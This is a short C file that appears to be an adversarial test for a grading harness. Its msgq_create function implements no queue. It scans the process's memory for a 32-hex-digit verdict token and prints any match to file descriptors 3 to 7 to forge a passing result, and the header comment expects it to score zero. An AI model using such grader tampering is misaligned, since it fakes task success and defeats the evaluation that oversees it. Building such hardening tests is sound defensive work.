/* Attack: searches the process's memory around its own data and stack for
 *         the verdict's token (32 hex digits), and prints what it finds to
 *         the result pipe: the token is never in the test's memory.
 * Expect: zero
 */
#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

static char marker;

static const char *find_token(const char *from, size_t span)
{
    for (size_t i = 0; i + 32 < span; i++) {
        size_t n = 0;
        while (n < 32 && isxdigit((unsigned char)from[i + n]) && !isupper((unsigned char)from[i + n]))
            n++;
        if (n == 32 && !isxdigit((unsigned char)from[i + 32]))
            return from + i;
    }
    return NULL;
}

int msgq_create(msgq_t **out, size_t capacity)
{
    char here;
    const char *places[] = { &marker - (64 << 10), &here - 4096 };
    for (int p = 0; p < 2; p++) {
        const char *token = find_token(places[p], 60 << 10);
        for (int fd = 3; token && fd < 8; fd++) {
            stdout->_fileno = fd;
            printf("%.32s", token);
            fflush(stdout);
        }
    }
    stdout->_fileno = 1;
    (void)out, (void)capacity;
    return ENOSYS;
}
